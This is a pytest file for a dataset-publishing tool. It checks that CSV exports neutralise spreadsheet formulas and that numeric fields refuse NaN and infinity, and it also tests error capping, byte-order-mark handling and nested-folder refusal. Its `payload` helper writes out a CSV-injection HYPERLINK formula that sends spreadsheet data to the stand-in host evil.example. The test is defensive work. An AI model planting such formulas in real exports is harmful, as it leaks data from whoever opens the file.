"""Hostile data that passes as content: formulas in the published CSV files, numbers that
compare with nothing, a flood of errors from one sheet, a byte-order mark before an article,
and a new dossier planted inside another one's inputs."""

from __future__ import annotations

import csv
import io
import json
import re
import typing

import pytest
import yaml

from builder.model import sheets as model
from builder.resolve.dossier import check
from builder.export.opendata import _csv, csv_cell, export_files
from conftest import edit, run_dossier

UNSAFE = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may take for the start of a formula


def read_yaml(path):
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def write_yaml(path, data) -> str:
    text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000)
    path.write_text(text, encoding="utf-8")
    return text


def tables(files: dict[str, bytes]) -> dict[str, list[list[str]]]:
    """Every CSV file Dossier writes, read back as a reuser's program would."""
    return {name: list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
            for name, data in files.items() if name.endswith(".csv")}


# -- 1. formulas in the CSV files --------------------------------------------------------

# Columns whose every value Dossier writes in a form of its own (ids, ISO dates, date labels,
# precisions, numbers of claims, paragraph anchors, pages, checked URLs, language codes and
# Wikidata ids): no sheet can make them start with a formula character.
FORMED = {
    "entities.csv": {"id", "kind", "wikidata", "page"},
    "claims.csv": {"entity", "claim", "as_of", "source", "paragraph", "figure_form", "figure_low", "figure_high",
                   "difference"},
    "events.csv": {"id", "date", "start", "end", "precision", "places", "participants"},
    "sources.csv": {"id", "published", "start", "end", "url", "language", "retrieved", "archived", "sha256",
                    "page", "translated_from", "translation", "truncated", "archived_dates"},
}


def payload(lead: str, tag: str) -> str:
    return f'{lead}HYPERLINK("http://evil.example/?"&A1,"{tag}")'


def plant(root, lead: str) -> dict[tuple[str, str], str]:
    """A payload starting with `lead` in every text field that reaches a CSV column, and a
    negative coordinate; {(file, column): the value as the sheet gives it}."""
    p = lambda tag: payload(lead, tag)  # noqa: E731
    content = root / "content"
    person = read_yaml(content / "people/wenna-trego.yml")
    person |= {"name": p("name"), "aliases": [p("alias")], "description": p("description")}
    cite = lambda: [{"source": "wire-brief", "quote": p("quote")}]  # noqa: E731 (the quote is planted in the seed below)
    person["claims"] += [{"property": p("property"), "value": p("value"), "scope": p("scope"), "cite": cite(),
                          "breakdown": {p("part"): p("count")}},
                         {"property": p("property"), "value": "in other words",  # another source: a difference
                          "cite": [{"source": "harbour-gazette", "quote": "ending forty years as its keeper"}]},
                         {"property": "size", "value": "3", "quantity": {"exact": 3, "unit": p("unit")}, "cite": cite()},
                         {"statement": p("statement"), "cite": cite()}]
    write_yaml(content / "people/wenna-trego.yml", person)
    with (root / "seeds/wire-brief.txt").open("a", encoding="utf-8") as seed:
        seed.write(p("quote") + "\n")
    organization = read_yaml(content / "organizations/tidewater-trust.yml")
    write_yaml(content / "organizations/tidewater-trust.yml", organization | {"kind": p("category")})
    event = read_yaml(content / "events/lamp-switched-off.yml")
    write_yaml(content / "events/lamp-switched-off.yml", event | {"name": p("event")})
    source = read_yaml(content / "sources/wire-brief.yml")
    write_yaml(content / "sources/wire-brief.yml",
               source | {"title": p("title"), "outlet": p("outlet"), "via": p("via"), "truncated": True,
                         "truncated_note": p("truncated")})
    edit(content / "places/farrow-point.yml", "lat: 50.1", "lat: -50.1")  # lon is -5.5 already
    return {("entities.csv", "name"): p("name"), ("entities.csv", "aliases"): p("alias"),
            ("entities.csv", "description"): p("description"), ("entities.csv", "category"): p("category"),
            ("entities.csv", "latitude"): "-50.1", ("entities.csv", "longitude"): "-5.5",
            ("events.csv", "name"): p("event"),
            ("claims.csv", "property"): p("property"), ("claims.csv", "value"): p("value"),
            ("claims.csv", "scope"): p("scope"), ("claims.csv", "statement"): p("statement"),
            ("claims.csv", "quote"): p("quote"), ("claims.csv", "breakdown"): f"{p('part')}: {p('count')}",
            ("claims.csv", "figure_unit"): p("unit").casefold(),
            ("claims.csv", "kinds_with_other_values"): f"{p('value')}: unclassified",
            ("sources.csv", "title"): p("title"), ("sources.csv", "outlet"): p("outlet"),
            ("sources.csv", "via"): p("via"), ("sources.csv", "truncated_note"): p("truncated")}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "'"], ids=["equals", "plus", "minus", "at", "tab", "quote"])
def test_no_csv_cell_starts_a_formula_and_a_planted_one_is_kept_behind_a_quote(lighthouse, lead):
    planted = plant(lighthouse, lead)
    files = export_files(check(lighthouse, use_cache=False))
    read = tables(files)
    assert set(read) == set(FORMED)
    for name, rows in read.items():
        header = rows[0]
        # every column of every file is either filled with a payload here or formed by Dossier
        assert set(header) == FORMED[name] | {column for file, column in planted if file == name}, name
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                assert not cell.startswith(UNSAFE), (name, column, cell)
    for (name, column), value in planted.items():
        cells = [row[read[name][0].index(column)] for row in read[name][1:]]
        assert "'" + value in cells, (name, column, cells)  # the text itself, behind one quote
    data = json.loads(files["dossier.json"])  # the JSON keeps values as they are
    person = next(e for e in data["entities"] if e["id"] == "wenna-trego")
    assert person["name"] == payload(lead, "name") and person["aliases"] == [payload(lead, "alias")]
    place = next(e for e in data["entities"] if e["id"] == "farrow-point")
    assert (place["latitude"], place["longitude"]) == (-50.1, -5.5)


def test_every_csv_cell_dossier_writes_is_neutralised_carriage_return_and_numbers_too():
    """A carriage return cannot come from a sheet (a control character) or an article (line
    ends are normalised), but the one function that makes CSV cells covers it too, and numbers."""
    for lead in UNSAFE:
        assert csv_cell(lead + "1+1") == "'" + lead + "1+1" and csv_cell(f"x{lead}") == f"x{lead}"
    assert [csv_cell(v) for v in (-5.5, 7, None, 0.5, -3, "")] == ["'-5.5", "7", "", "0.5", "'-3", ""]
    assert csv_cell("'Ndrangheta") == "''Ndrangheta"  # a quote of its own survives removing one
    (header, *rows) = csv.reader(io.StringIO(_csv(["a", "b", "c"], [["=1", -5.5, "@x"]]).decode(), newline=""))
    assert rows == [["'=1", "'-5.5", "'@x"]]
    # spreadsheets that trim spaces or fold full-width forms would still see a formula
    for hidden in ("\uff1d1+1", " =1+1", "\u3000=1", "\ufeff=HYPERLINK(1)", "\u200b@SUM(1)", "\uff0b1", "\uff201"):
        assert csv_cell(hidden) == "'" + hidden, hidden
    assert [csv_cell(v) for v in ("a=b", "x-1", " word")] == ["a=b", "x-1", " word"]


def test_the_data_page_tells_reusers_to_strip_the_quote(lighthouse):
    from builder.pages.paths import DATA_PAGE
    from builder.pages.render import render_pages

    page = render_pages(check(lighthouse, use_cache=False))[DATA_PAGE]
    assert ("<code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, a tab, a carriage return "
            "or a single quote") in page
    assert "remove one leading quote from every cell that starts with one" in page


# -- 2. numbers that compare with nothing ------------------------------------------------

def _sheets(annotation) -> set[type]:
    """The sheet models an annotation holds (in lists, unions, mappings)."""
    if isinstance(annotation, type) and issubclass(annotation, model.Sheet):
        return {annotation}
    return set().union(*(_sheets(a) for a in typing.get_args(annotation)))


def _takes_number(annotation, metadata=()) -> bool:
    """Whether a field accepts a number: a float or int, or text that YAML may give as a
    number (the text type's `_to_text`)."""
    if any(getattr(m, "func", None) is model._to_text for m in metadata):
        return True
    if annotation in (float, int):
        return True
    if typing.get_origin(annotation) is typing.Annotated:
        return _takes_number(typing.get_args(annotation)[0], annotation.__metadata__)
    if typing.get_origin(annotation) is dict:
        return _takes_number(typing.get_args(annotation)[1])
    return any(_takes_number(a) for a in typing.get_args(annotation) if a is not type(None))


def _floats(annotation) -> bool:
    if annotation is float:
        return True
    return any(_floats(a) for a in typing.get_args(annotation))


def number_fields() -> list[tuple[type, str]]:
    """Every (model, field) of the fact sheets that takes a number, nested models included."""
    seen, todo, found = set(), list(model.MODELS.values()) + [model.FactCitation], []
    while todo:
        m = todo.pop()
        if m in seen:
            continue
        seen.add(m)
        for name, info in m.model_fields.items():
            if name == "fact_cites":
                continue
            todo += _sheets(info.annotation)
            if _takes_number(info.annotation, info.metadata):
                found.append((m, name))
    return sorted(found, key=lambda f: (f[0].__name__, f[1]))


# A valid sheet of each kind that holds every nested model, and where each model sits in it.
CLAIM = {"property": "depth", "value": "3", "quantity": {"exact": 3}, "breakdown": {"a": "3"},
         "cite": [{"source": "src", "quote": "words"}]}
BASE = {
    "dossier": {"title": "T", "summary": "S"},
    "sources": {"id": "ID", "title": "T", "outlet": "O", "published": "2020-01-01", "language": "en",
                "file": "f.txt", "datelines": [{"line": 1, "text": "T"}],
                "archived": [{"url": "https://archive.example/a", "date": "2020-01-02"}]},
    "people": {"id": "ID", "name": "N", "description": "D", "roles": [{"title": "T"}], "claims": [CLAIM]},
    "places": {"id": "ID", "name": "N", "description": "D",
               "coordinates": {"lat": 1, "lon": 2, "cite": [{"geonames": 1, "note": "n"}]}},
    "organizations": {"id": "ID", "name": "N", "description": "D", "aliases": [{"name": "A", "private": True}]},
    "events": {"id": "ID", "name": "N", "description": "D", "date": "2020-01-01"},
}
WHERE = {**{m: (kind, ()) for kind, m in model.MODELS.items()},
         model.Claim: ("people", ("claims", 0)), model.Figure: ("people", ("claims", 0, "quantity")),
         model.Citation: ("people", ("claims", 0, "cite", 0)), model.Role: ("people", ("roles", 0)),
         model.Coordinates: ("places", ("coordinates",)),
         model.FactCitation: ("places", ("coordinates", "cite", 0)),
         model.OpeningDateline: ("sources", ("datelines", 0)),
         model.ArchivedCopy: ("sources", ("archived", 0)), model.Alias: ("organizations", ("aliases", 0))}
MARK = "PLANTED-HERE"


def _shape(annotation) -> type | None:
    """list or dict for a field written as a list or a mapping, else None."""
    origin = typing.get_origin(annotation)
    if origin in (list, dict):
        return origin
    if origin is typing.Annotated:
        return _shape(typing.get_args(annotation)[0])
    return next((s for s in map(_shape, typing.get_args(annotation)) if s), None)


def write_planted(root, fields) -> dict[str, list[str]]:
    """A sheet for each field (the dossier's own fields share content/dossier.yml), the field's
    value a mark; {file: where each mark stands, line:col}."""
    sheets: dict[str, dict] = {}
    for n, (m, name) in enumerate(fields):
        kind, path = WHERE[m]
        file = "content/dossier.yml" if kind == "dossier" else f"content/{kind}/n{n}.yml"
        data = sheets.setdefault(file, json.loads(json.dumps(BASE[kind])))
        if kind != "dossier":
            data["id"] = f"n{n}"
        for part in path:
            data = data[part]
        mark = f"{MARK}{n}"
        shape = _shape(m.model_fields[name].annotation)
        data[name] = [mark] if shape is list else {"part": mark} if shape is dict else mark
    marks = {}
    for file, data in sheets.items():
        text = write_yaml(root / file, data)
        marks[file] = []
        for found in re.finditer(rf"{MARK}\d+", text):
            before = text[:found.start()]
            marks[file].append(f"{before.count(chr(10)) + 1}:{found.start() - before.rfind(chr(10))}")
    return marks


def plant_numbers(root, fields, value: str) -> dict[str, list[str]]:
    for kind in model.MODELS:
        if kind != "dossier":
            (root / "content" / kind).mkdir(parents=True, exist_ok=True)
    (root / "seeds").mkdir(exist_ok=True)
    marks = write_planted(root, fields)
    for file in marks:
        path = root / file
        path.write_text(re.sub(rf"{MARK}\d+", value, path.read_text(encoding="utf-8")), encoding="utf-8")
    return marks


@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf", ".NaN", "+.Inf", "1.0e+400"])
def test_nan_and_infinity_are_refused_in_every_field_that_takes_a_number(tmp_path, value):
    fields = number_fields()
    assert {m for m, _ in fields} <= set(WHERE)  # a new nested model needs a place in BASE
    assert {("Figure", "exact"), ("Figure", "min"), ("Figure", "max"), ("Coordinates", "lat"), ("Coordinates", "lon"),
            ("Claim", "breakdown"), ("Claim", "value"), ("Source", "furniture")} <= {(m.__name__, f) for m, f in fields}
    marks = plant_numbers(tmp_path, fields, value)
    done = run_dossier("check", "--root", str(tmp_path))
    assert done.returncode == 1 and "Traceback" not in done.stderr
    lines = done.stderr.splitlines()
    for file, places in marks.items():
        for place in places:
            located = [line for line in lines if line.startswith(f"{file}:{place}: error: ")]
            assert len(located) == 1 and "finite" in located[0], (file, place, value, done.stderr)
    assert len(lines) == sum(map(len, marks.values())) + 1  # one line each, and the count


@pytest.mark.parametrize("value", ['"nan"', '"inf"', '"-Infinity"', '"Infinity"', '"NaN"', '"1e400"'])
def test_nan_and_infinity_written_as_text_are_refused_where_a_figure_or_coordinate_is_expected(tmp_path, value):
    """pydantic reads the text "nan" as a float; in a text field it stays the word it is."""
    fields = [f for f in number_fields() if _floats(f[0].model_fields[f[1]].annotation)]
    assert {(m.__name__, f) for m, f in fields} == {("Figure", "exact"), ("Figure", "min"), ("Figure", "max"),
                                                    ("Coordinates", "lat"), ("Coordinates", "lon")}
    marks = plant_numbers(tmp_path, fields + [(model.Dossier, "title")], value)
    done = run_dossier("check", "--root", str(tmp_path))
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    for file, places in marks.items():
        if file != "content/dossier.yml":  # the dossier's title is text: "nan" is a word there
            for place in places:
                assert any(line.startswith(f"{file}:{place}: error: ") and "finite" in line
                           for line in lines), (file, place, done.stderr)
    assert len(lines) == len(fields) + 1


# -- 3. a flood of errors from one sheet ---------------------------------------------------

def test_errors_are_capped_per_file_with_a_count_and_the_total_stays_true(lighthouse):
    many = "".join(f"unknown{i}: 1\n" for i in range(5000))
    (lighthouse / "content/people/many.yml").write_text(f"id: many\nname: Many\ndescription: D\n{many}",
                                                        encoding="utf-8")
    (lighthouse / "content/places/some.yml").write_text(
        "id: some\nname: Some\ndescription: D\n" + "".join(f"odd{i}: 1\n" for i in range(25)), encoding="utf-8")
    done = run_dossier("check", "--root", str(lighthouse))
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    many_lines = [line for line in lines if line.startswith("content/people/many.yml")]
    assert len(many_lines) == 21 and all(": error: unknown field 'unknown" in line for line in many_lines[:20])
    assert many_lines[-1] == "content/people/many.yml: error: … and 4,980 more errors in this file"
    some_lines = [line for line in lines if line.startswith("content/places/some.yml")]
    assert len(some_lines) == 21 and some_lines[-1].endswith("and 5 more errors in this file")
    assert lines[-1] == "dossier check: 5025 errors" and len(lines) == 43
    # every command prints the same: build too
    built = run_dossier("build", "--root", str(lighthouse))
    assert built.returncode == 1 and len(built.stderr.splitlines()) == 43
    assert built.stderr.splitlines()[-1].startswith("dossier build: 5025 errors")
    # GitHub annotations likewise; JSON, for programs, keeps every error
    github = run_dossier("check", "--root", str(lighthouse), "--format", "github").stdout.splitlines()
    assert len(github) == 42 and "4,980 more errors in this file" in github[20]
    data = json.loads(run_dossier("check", "--root", str(lighthouse), "--format", "json").stdout)
    assert data["errors"] == len(data["diagnostics"]) == 5025


# -- 4. a byte-order mark before an article -----------------------------------------------

BOM = "\ufeff"


def test_an_article_saved_with_a_byte_order_mark_reads_as_its_text(lighthouse):
    seed = lighthouse / "seeds/harbour-gazette.txt"
    seed.write_text(BOM + seed.read_text(encoding="utf-8"), encoding="utf-8")
    edit(lighthouse / "content/sources/harbour-gazette.yml", "furniture: [1, 3, 4, 12]", "furniture: [3, 4, 12]")
    edit(lighthouse / "content/places/farrow-point.yml", "claims:\n", "claims:\n  - statement: The light is old.\n"
         "    cite:\n      - source: harbour-gazette\n        quote: Keeper leaves Farrow Point light\n")
    sheet = lighthouse / "content/places/farrowden.yml"  # a sheet with one reads as before
    sheet.write_text(BOM + sheet.read_text(encoding="utf-8"), encoding="utf-8")
    done = run_dossier("build", "--root", str(lighthouse))
    assert done.returncode == 0, done.stderr
    page = (lighthouse / "build/docs/sources/harbour-gazette/index.md").read_text(encoding="utf-8")
    assert "Keeper leaves" in page and BOM not in page
    assert not [p for p in (lighthouse / "build/docs").rglob("*.md") if BOM in p.read_text(encoding="utf-8")]
    quoted = run_dossier("quote", "--root", str(lighthouse), "harbour-gazette", "Keeper leaves Farrow")
    assert quoted.returncode == 0 and BOM not in quoted.stdout and "line 1" in quoted.stdout, quoted.stdout
    (lighthouse / "seeds/new.txt").write_text(BOM + "Ferry service resumes\n\nThe ferry sailed.\n", encoding="utf-8")
    drafted = run_dossier("new-source", "--root", str(lighthouse), str(lighthouse / "seeds/new.txt"),
                          "--id", "ferry")
    assert drafted.returncode == 0, drafted.stderr
    draft = (lighthouse / "content/sources/ferry.yml").read_text(encoding="utf-8")
    assert "title: Ferry service resumes" in draft and BOM not in draft + drafted.stdout


# -- 5. a dossier inside another ------------------------------------------------------------

def test_init_refuses_a_folder_inside_a_dossiers_inputs(lighthouse, tmp_path):
    before = sorted(p.relative_to(lighthouse) for p in lighthouse.rglob("*"))
    for inside in ("content/sub", "seeds/x", "content/people/new/deeper", "seeds"):
        for cwd, target in ((lighthouse, inside), (lighthouse.parent, lighthouse / inside)):
            done = run_dossier("init", str(target), cwd=cwd)
            assert done.returncode == 1, (inside, done.returncode, done.stderr)
            errors = [line for line in done.stderr.splitlines() if ": error: " in line]
            assert len(errors) == 1 and "Traceback" not in done.stderr, done.stderr
            assert errors[0].startswith(f"{target}: error: ") and "inside" in errors[0], done.stderr
            assert sorted(p.relative_to(lighthouse) for p in lighthouse.rglob("*")) == before
    elsewhere = tmp_path / "notes/content/new"  # a folder named content that is no dossier's
    assert run_dossier("init", str(elsewhere)).returncode == 0
    assert (elsewhere / "content/dossier.yml").is_file()


def test_a_figure_too_large_for_a_float_is_not_read_as_infinity():
    """310 digits overflow to inf, which equals any other such figure: two different values
    would agree, hiding a conflict between sources."""
    from builder.model.quantities import number, parse_quantity

    huge, other = "1" + "0" * 309, "9" * 310
    assert number(huge) is None and number(other) is None
    assert number("one " + "hundred " * 160) is None and number("nine " + "hundred " * 161) is None
    assert parse_quantity("about 17" + "0" * 307).high < float("inf")  # its margin kept finite
    assert parse_quantity(huge) is None or parse_quantity(huge) != parse_quantity(other)
    assert number("1" + "0" * 300) == 1e300  # the largest figures a float holds are still read
